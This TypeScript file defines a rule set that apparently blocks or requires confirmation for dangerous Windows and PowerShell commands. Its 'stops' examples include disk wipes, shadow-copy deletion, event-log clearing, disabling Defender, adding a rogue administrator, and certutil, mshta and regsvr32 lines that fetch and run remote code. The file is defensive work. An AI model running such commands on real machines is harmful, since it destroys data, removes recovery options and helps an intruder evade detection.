import type { ArgvRule } from '../rules/rule.ts';

/** Rules about the words of commands on Windows; cmdlets by their full names in small letters, examples are PowerShell. */
export const windowsRules: readonly ArgvRule[] = [
  {
    id: 'disk.destroy.format',
    level: 'forbid',
    say: 'Formats a drive.',
    tools: 'format format.com format-volume',
    args: /(^|\s)["']?([a-z]:|\\\\\?\\volume|-driveletter|-filesystemlabel|-path|-partition|-inputobject|\/fs:|…)/i,
    unless: /(^|\s)(\/\?|-whatif|-confirm:\$true)(\s|$)/i,
    stops: [
      'format D: /q /y',
      'Format-Volume -DriveLetter C -Force',
      'Get-Partition | Format-Volume -FileSystemLabel x',
    ],
    passes: ['Get-Process | Format-Table', 'Get-Date -Format o', 'Format-Volume -DriveLetter D -WhatIf'],
  },
  {
    id: 'disk.destroy.clear',
    level: 'forbid',
    say: 'Removes everything that is on a disk or a partition.',
    tools:
      'clear-disk remove-partition remove-virtualdisk remove-storagepool reset-physicaldisk remove-volume clear-storagediagnosticinfo remove-physicaldisk remove-clustersharedvolume',
    unless: /-whatif/i,
    stops: [
      'Clear-Disk -Number 1 -RemoveData',
      'Remove-Partition -DriveLetter D',
      'Remove-VirtualDisk -FriendlyName x',
    ],
    passes: ['Get-Disk', 'Get-Partition', 'Clear-Disk -Number 1 -WhatIf'],
  },
  {
    id: 'disk.destroy.initialize',
    level: 'confirm',
    say: 'Sets up a disk anew or wipes what is free on it.',
    tools:
      'initialize-disk set-disk set-partition cipher resize-partition new-partition sdelete sdelete64 dismount-volume',
    args: /^(?!.*-whatif)(?=.*(-number|-inputobject|-isoffline|-size|-newdriveletter|\/w|-z|-c|-p|-s|^\d|…)).*$/i,
    stops: ['Initialize-Disk -Number 1', 'cipher /w:C:\\', 'sdelete -z C:'],
    passes: ['Get-Disk', 'cipher /c x', 'Initialize-Disk -Number 1 -WhatIf'],
  },
  {
    id: 'disk.destroy.diskpart',
    level: 'forbid',
    say: 'Changes disks by a script that formats or cleans them.',
    tools: 'diskpart',
    args: /(^|\s)([/-]s)(\s|$)|clean|format|delete|select/i,
    stops: ['diskpart /s wipe.txt', "'select disk 0','clean' | diskpart", 'diskpart /s C:\\x.txt'],
    passes: ['diskpart /?', 'Get-Disk', 'Get-Help diskpart'],
  },
  {
    id: 'disk.destroy.shadow',
    level: 'forbid',
    say: 'Deletes restore points and backups.',
    tools: 'vssadmin wmic wbadmin diskshadow bcdedit remove-ciminstance remove-wmiobject delete-shadow fsutil',
    args: /(delete\s+(shadows|shadowstorage)|resize\s+shadowstorage|shadowcopy\s.*delete|delete\s+(catalog|systemstatebackup|backup)|delete\s+shadows|win32_shadowcopy|\/delete(value)?\b|\/set\b.*(recoveryenabled\s+no|ignoreallfailures|safeboot)|\/deletevalue|\/import|\/createstore|volume\s+(dismount|diskfree\s+set)|usn\s+deletejournal|(^|\s)[/-]s\s|file\s+setzerodata|behavior\s+set\s+disabledeletenotify)/i,
    stops: ['vssadmin delete shadows /all /quiet', 'wbadmin delete catalog -quiet', 'bcdedit /delete "{current}" /f'],
    passes: ['vssadmin list shadows', 'wbadmin get versions', 'bcdedit /enum'],
  },
  {
    id: 'disk.destroy.boot',
    level: 'forbid',
    say: 'Changes how Windows starts.',
    tools: 'bcdedit bootrec bcdboot bootsect bootcfg reagentc',
    args: /(\/set\b|\/default\b|\/displayorder\b|\/bootsequence\b|\/fixmbr|\/fixboot|\/rebuildbcd|\/nt60|\/delete\s+\/id|\/disable)/i,
    unless: /\/set\s.*(testsigning off|hypervisorlaunchtype|description)/i,
    stops: ['bcdedit /set safeboot minimal', 'bootrec /fixmbr', 'reagentc /disable'],
    passes: ['bcdedit', 'bootrec /scanos', 'reagentc /info'],
  },
  {
    id: 'disk.destroy.encrypt',
    level: 'confirm',
    say: 'Encrypts a drive, or takes away the keys that open it.',
    tools:
      'manage-bde enable-bitlocker remove-bitlockerkeyprotector lock-bitlocker clear-bitlockerautounlock clear-tpm',
    args: /(-on\b|-off\b|-lock\b|-forcerecovery|-fr\b|-protectors\s+-(delete|disable)|-delete|-mountpoint|-wipefreespace|-w\b|-usedspaceonly|^$|-keyprotectorid)/i,
    unless: /-status|-get\b/i,
    stops: ['manage-bde -protectors -delete C:', 'manage-bde -forcerecovery C:', 'Clear-Tpm'],
    passes: ['manage-bde -status', 'Get-BitLockerVolume', 'manage-bde -protectors -get C:'],
  },
  {
    id: 'power.windows',
    level: 'forbid',
    say: 'Shuts the machine down, restarts it or logs people off.',
    tools: 'shutdown psshutdown psshutdown64',
    args: /(^|\s|\/\S+)[/-](s|r|p|h|l|g|sg|hybrid|o|fw|k|d|u)(\b|\/|$)|^$(?=x)/i,
    unless: /(^|\s)[/-](a|\?)(\s|$)/i,
    stops: ['shutdown /s /t 0', 'shutdown -r -t 60', 'shutdown /l'],
    passes: ['shutdown /a', 'shutdown /?', 'Get-Help shutdown'],
  },
  {
    id: 'power.computer',
    level: 'forbid',
    say: 'Shuts machines down or restarts them.',
    tools:
      'stop-computer restart-computer logoff suspend-vm stop-vm restart-vm remove-vm stop-azvm remove-azvm remove-azresourcegroup stop-cluster remove-cluster tsshutdn rwinsta reset invoke-wmimethod invoke-cimmethod wmic win32shutdown',
    args: /^(?!.*(-whatif|\s\/\?))(?!.*(name\s+create|process\s+call\s+create))/i,
    unless:
      /^(?=.*(process|service|os\s+get|product|cpu|logicaldisk|bios|qfe|computersystem\s+get|nic|useraccount|startup|diskdrive|memorychip|datafile|shadowcopy|-methodname\s+(?!reboot|win32shutdown|shutdown)|-name\s+(?!reboot|win32shutdown|shutdown)))(?!.*(reboot|shutdown|win32shutdown))|^(session|\d*|…)?$(?=never)/i,
    stops: ['Stop-Computer -Force', 'Restart-Computer', 'wmic os where primary=true call reboot'],
    passes: ['Get-ComputerInfo', 'Restart-Computer -WhatIf', 'wmic os get caption'],
  },
  {
    id: 'power.library',
    level: 'forbid',
    say: 'Shuts the machine down, locks it or puts it to sleep.',
    tools: 'rundll32',
    args: /(exitwindows|lockworkstation|setsuspendstate|shutdown|restartwindows|advpack|javascript:|vbscript:)/i,
    stops: [
      'rundll32 user32.dll,ExitWindowsEx',
      'rundll32.exe powrprof.dll,SetSuspendState 0,1,0',
      'rundll32 user32.dll,LockWorkStation',
    ],
    passes: ['rundll32 printui.dll,PrintUIEntry /?', 'rundll32 shell32.dll,Control_RunDLL', 'Get-Help rundll32'],
  },
  {
    id: 'proc.kill.windows',
    level: 'forbid',
    say: 'Ends processes without which Windows does not run.',
    tools: 'stop-process taskkill tskill pskill pskill64',
    args: /(^|[\s,"'])(lsass|csrss|wininit|winlogon|smss|services|svchost|system|dwm|explorer_|lsm|wmiprvse_|\*)(\.exe)?(["',\s]|$)|\*$|fi\s+"?(status|pid|username|imagename|memusage)\s+(eq\s+running|ne\s|gt\s+0|ge\s+0)/i,
    stops: ['Stop-Process -Name lsass -Force', 'taskkill /f /im csrss.exe', 'taskkill /f /fi "PID gt 0"'],
    passes: ['Stop-Process -Name notepad', 'taskkill /f /im app.exe', 'Get-Process svchost'],
  },
  {
    id: 'net.lockout.windows-service',
    level: 'confirm',
    say: 'Stops or disables a service by which this machine is reached or protected.',
    tools: 'stop-service set-service suspend-service remove-service sc net net1 sc.exe',
    args: /^(?!.*(start(up)?type\s+(automatic|manual)|-status\s+running|^query))(?=.*(^|[\s"',])(sshd?|winrm|termservice|umrdpservice|dhcp|dnscache|nlasvc|netlogon|lanmanserver|lanmanworkstation|mpssvc|bfe|rpcss|windefend|wdnissvc|sense|eventlog|wscsvc|w32time|cryptsvc|vss|swprv|ntds|dns|kdc|vmms|gpsvc|netman|nsi|samss|plugplay|trustedinstaller|wuauserv_|sysmon(64)?)(["',\s]|$))(?=.*(stop|disabled|delete|pause|stopped|^\S+$|-name|-force|config|failure)).*$/i,
    unless:
      /^(query|qc|start|queryex|continue)\b|-startuptype\s+(automatic|manual)|-whatif|^config\s+\S+\s+start=\s*(auto|demand)/i,
    stops: [
      'Stop-Service sshd',
      'Set-Service WinRM -StartupType Disabled',
      'sc.exe config TermService start= disabled',
    ],
    passes: ['Restart-Service sshd', 'sc query sshd', 'Stop-Service Spooler'],
  },
  {
    id: 'net.lockout.windows-firewall',
    level: 'confirm',
    say: 'Switches the firewall off, or closes what this machine is reached by.',
    tools:
      'netsh set-netfirewallprofile remove-netfirewallrule disable-netfirewallrule new-netfirewallrule set-netfirewallrule',
    args: /advfirewall\s+(set\s+\S+\s+(state\s+off|firewallpolicy)|reset)|firewall\s+set\s+opmode\s+(mode=)?disable|-enabled\s*:?\s*(\$?false|0)|delete\s+rule\s+(name=)?(all|"?openssh|"?remote desktop|"?windows remote)|-defaultinboundaction\s+block|-all\b|(?=.*(-action\s+block|action=block))(?=.*(localport[= ](22|3389|5985|5986|any)|-direction\s+(in|out)\w*\s*$|-localport\s+(22|3389|598\d)))|-(display)?name\s+["']?(\*|openssh\S*|\*ssh\S*|\*remote\S*|\*winrm\S*)|^\*|^$/i,
    unless:
      /-whatif|^(advfirewall\s+(show|firewall\s+(show|add)(?!.*action=block))|interface\s+(ip(v4)?\s+)?show|wlan show|trace|http|winhttp)/i,
    stops: [
      'netsh advfirewall set allprofiles state off',
      'Set-NetFirewallProfile -All -Enabled False',
      'Remove-NetFirewallRule -DisplayName "OpenSSH Server"',
    ],
    passes: [
      'netsh advfirewall show allprofiles',
      'New-NetFirewallRule -DisplayName web -LocalPort 443 -Action Allow',
      'Get-NetFirewallProfile',
    ],
  },
  {
    id: 'net.lockout.adapter',
    level: 'confirm',
    say: 'Takes a network adapter, an address or a route away.',
    tools:
      'netsh disable-netadapter remove-netipaddress remove-netroute disable-netadapterbinding remove-netadapter route ipconfig disable-pnpdevice devcon disable-psremoting winrm pnputil',
    args: /^(?!.*-whatif)(?!(show|-4|print|get|enumerate|\/all|\/flushdns|\/registerdns|\/displaydns|\/renew|\/enum|advfirewall|http|add|change|-p\s+add|quickconfig|qc|invoke)\b).*(admin=disable|set\s+interface\s.*(disable)|int(erface)?\s+(ip\s+)?reset|winsock\s+reset|delete\s+address|set\s+address\s.*(static|dhcp)|\/release|^-f\b|delete\s+0\.0\.0\.0|delete\s+\*|-name|-interfacealias|-interfaceindex|^[\w"' ]+\s-confirm:|-destinationprefix|-ipaddress|-instanceid|-force|delete\s+winrm\/config|disable\b|remove\b|\/remove-device|\/disable-device|^["'\w*…]+$|…|^$)/i,
    unless:
      /^(\/flushdns|\/all|print|-print|\/renew|\/displaydns|\/registerdns|-4|winrm|\/\?)?$(?<=.)|-confirm:\$true/i,
    stops: [
      'Disable-NetAdapter -Name Ethernet -Confirm:$false',
      'netsh interface set interface "Ethernet" admin=disabled',
      'ipconfig /release',
    ],
    passes: ['ipconfig /all', 'route print', 'Get-NetAdapter'],
  },
  {
    id: 'auth.tamper.windows-account',
    level: 'confirm',
    say: 'Changes, disables or removes the account of an administrator, or adds one.',
    tools:
      'net net1 disable-localuser remove-localuser set-localuser add-localgroupmember remove-localgroupmember disable-adaccount remove-aduser remove-adobject remove-adorganizationalunit remove-adgroup remove-adcomputer set-adaccountpassword uninstall-addsdomaincontroller dsrm wmic remove-adgroupmember rename-localuser remove-computer',
    args: /user\s+\/?["']?(administrator|admin)["']?\s+(?!\/domain$)\S+|user\s+\S+\s+.*\/(delete|active:no)|localgroup\s+["']?administrators["']?\s+.*\/(add|delete)|accounts\s+\/|(^|[\s"'])(administrator|administrators|admin)(["'\s]|$)|-recursive|^(-identity|-filter|…)|useraccount\s.*(delete|disabled=true|rename)|-subtree|-demoteoperationmasterrole|-unjoin|-workgroup|-lastdomaincontroller/i,
    unless: /-whatif|^user(\s+\S+)?$|^(localgroup|start|use|view|share|statistics|time|stop|session)(\s+\S+)?$/i,
    stops: [
      'net user administrator /active:no',
      'Disable-LocalUser -Name Administrator',
      'net localgroup administrators evil /add',
    ],
    passes: ['net user', 'Get-LocalUser', 'net user anna'],
  },
  {
    id: 'evidence.windows',
    level: 'confirm',
    say: 'Removes the record of what was done on the machine, or stops keeping it.',
    tools: 'clear-eventlog remove-eventlog wevtutil limit-eventlog clear-history auditpol wmic logman clear-winevent',
    args: /(^|\s)(cl|clear-log|-logname|sl\s.*(\/e:false|\/ms:\d{1,4}\b)|-maximumsize|\/clear|\/remove|\/set\s.*disable|nteventlog\s.*cleareventlog|nteventlog\s.*delete|stop\s+eventlog\S*|delete\s+eventlog|security|application|system|…)|^$/i,
    unless:
      /^(qe|el|gl|gli|epl|\/get|query|get-)|^(cpu|os|process|product|logicaldisk|bios|qfe|computersystem|nic\b|service)/i,
    stops: ['wevtutil cl Security', 'Clear-EventLog -LogName System', 'auditpol /clear /y'],
    passes: ['wevtutil qe System /c:5', 'Get-EventLog -LogName System', 'auditpol /get /category:*'],
  },
  {
    id: 'evidence.protection',
    level: 'confirm',
    say: 'Switches a protection of Windows off.',
    tools:
      'set-mppreference add-mppreference remove-mppreference uninstall-windowsfeature disable-windowsoptionalfeature dism set-processmitigation mpcmdrun remove-windowsfeature set-smbserverconfiguration',
    args: /-disable\w+\s*:?\s*(\$true|1|true)|-exclusion(path|process|extension|ipaddress)|-removedefinitions|windows-defender|windowsdefender|-ma?pspreporting\s+(0|disabled)|-submitsamplesconsent\s+(2|never)|-enablecontrolledfolderaccess\s+(0|disabled)|-puaprotection\s+(0|disabled)|-enablesmb1protocol\s+\$true|(?=.*(-name|-featurename|\/featurename:|^)\s*["']?(openssh|ad-domain|windows-defender|dns|rsat_|netfx_|hyper-v))/i,
    unless: /-whatif|\/(get|enable)/i,
    stops: [
      'Set-MpPreference -DisableRealtimeMonitoring $true',
      'Add-MpPreference -ExclusionPath C:\\',
      'Uninstall-WindowsFeature -Name Windows-Defender',
    ],
    passes: ['Get-MpPreference', 'Set-MpPreference -DisableRealtimeMonitoring $false', 'Update-MpSignature'],
  },
  {
    id: 'fs.delete.registry',
    level: 'forbid',
    say: 'Deletes a hive of the registry, or what Windows needs in it.',
    tools: 'reg remove-item remove-itemproperty clear-item clear-itemproperty',
    args: /^(?!.*-whatif)(?!(query|add|export|save|compare|copy)\b).*(hklm|hkcr|hkcu|hku|hkey_local_machine|hkey_classes_root|hkey_current_user|hkey_users)(:|:?\\)?(\\?(system|software|sam|security|hardware|bcd\S*|software\\(microsoft|classes|policies|microsoft\\windows( nt)?)|system\\(currentcontrolset|controlset\d+|setup|mounteddevices)|(system\\)?currentcontrolset\\(services|control)|system\\currentcontrolset\\(services|control|enum)(\\(sshd|lsa|session manager|safeboot|tcpip|winlogon|class))?|software\\microsoft\\windows( nt)?\\currentversion(\\winlogon)?|\*|))?\\?\*?["']?(\s+[/-].*)?$/i,
    stops: ['reg delete HKLM\\SYSTEM /f', 'Remove-Item HKLM:\\SOFTWARE -Recurse -Force', 'reg delete HKCR /f'],
    passes: [
      'reg query HKLM\\SYSTEM',
      'reg delete HKCU\\Software\\MyApp /f',
      'Remove-Item HKLM:\\SOFTWARE\\MyApp -Recurse',
    ],
  },
  {
    id: 'fs.overwrite.registry',
    level: 'confirm',
    say: 'Changes what the registry says about logging in, starting or protection.',
    tools: 'reg set-itemproperty new-itemproperty sp regedit regedt32 set-item',
    args: /^(?!query|export|save|compare)(?=.*(\\winlogon\b|\\lsa\b|\\safeboot\b|\\image file execution options\\|\\windows defender\b|\\terminal server\b.*fdenytsconnections\D+1|\\session manager\b|enablelua\D+0|\\services\\(sshd|winrm|termservice|windefend|eventlog|mpssvc|bfe|tcpip|dhcp)\b|\\wdigest\b|\\bootexecute)|import\s|restore\s|load\s|unload\s|^[/-]s\b|\/s\s+\S+\.reg).*$/i,
    unless: /fdenytsconnections\D+0\b|-whatif/i,
    stops: [
      'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /d 1 /f',
      'reg import x.reg',
      'Set-ItemProperty "HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" Shell x',
    ],
    passes: [
      'reg add HKCU\\Software\\MyApp /v x /d 1 /f',
      'reg export HKLM\\SOFTWARE\\MyApp x.reg',
      'Set-ItemProperty HKLM:\\SOFTWARE\\MyApp x 1',
    ],
  },
  {
    id: 'exec.opaque.lolbin',
    level: 'confirm',
    say: 'Runs code that is fetched at that moment; nobody can read it beforehand.',
    tools:
      'mshta regsvr32 bitsadmin certutil cscript wscript msiexec installutil msbuild odbcconf cmstp hh presentationhost wmic',
    args: /https?:|javascript:|vbscript:|-urlcache|\/i:http|-decode(hex)?\b|\/transfer|\/setnotifycmdline|\\\\[^\\]+\\.*\.(sct|hta|xsl|msi|js|vbs)|\/format:\S*http/i,
    unless: /-hashfile|-store\b|-urlcache\s+\*\s+delete|msi\.local/i,
    stops: [
      'mshta http://example.com/x.hta',
      'regsvr32 /s /n /u /i:http://example.com/x.sct scrobj.dll',
      'certutil -urlcache -split -f http://example.com/x.exe x.exe',
    ],
    passes: ['certutil -hashfile x.zip SHA256', 'msiexec /i app.msi /qn', 'regsvr32 /s app.dll'],
  },
  {
    id: 'pkg.core.windows',
    level: 'confirm',
    say: 'Removes parts of Windows.',
    tools:
      'dism remove-windowspackage remove-appxpackage remove-appxprovisionedpackage remove-windowscapability disable-windowsoptionalfeature remove-windowsdriver pnputil wusa',
    args: /\/(remove-package|disable-feature|remove-driver|cleanup-image\s+\/resetbase_|apply-image|cleanup-mountpoints_)|-packagename|-name\s+["']?(openssh\.server|\*|microsoft\.windows)|-featurename|-allusers|\/delete-driver.*\/force|^…$|\/uninstall/i,
    unless: /-whatif/i,
    stops: [
      'Remove-WindowsCapability -Online -Name OpenSSH.Server~~~~0.0.1.0',
      'dism /online /remove-package /packagename:x',
      'Get-AppxPackage -AllUsers | Remove-AppxPackage',
    ],
    passes: ['dism /online /get-packages', 'Get-WindowsCapability -Online', 'dism /online /cleanup-image /scanhealth'],
  },
  {
    id: 'data.destroy.windows',
    level: 'confirm',
    say: 'Removes data of a service, a cluster or a mail system.',
    tools:
      'remove-sqldatabase remove-mailbox remove-mailboxdatabase disable-mailbox remove-website remove-webapppool remove-vhd remove-vmsnapshot remove-clusterresource remove-clustergroup remove-azstorageaccount remove-azstoragecontainer remove-azkeyvault remove-azsqldatabase remove-s3bucket remove-s3object remove-ec2instance remove-rdsdbinstance remove-dnsserverzone remove-dhcpserverv4scope remove-gpo remove-smbshare remove-azdisk remove-azvirtualnetwork remove-msolUser remove-azureaduser remove-mguser remove-iscsivirtualdisk remove-wbbackupset remove-wbcatalog drop-database',
    unless: /-whatif/i,
    stops: [
      'Remove-SqlDatabase -Name prod',
      'Remove-DnsServerZone example.com -Force',
      'Remove-AzStorageAccount -Name x -Force',
    ],
    passes: ['Get-Mailbox', 'Get-DnsServerZone', 'Remove-SqlDatabase -Name prod -WhatIf'],
  },
];
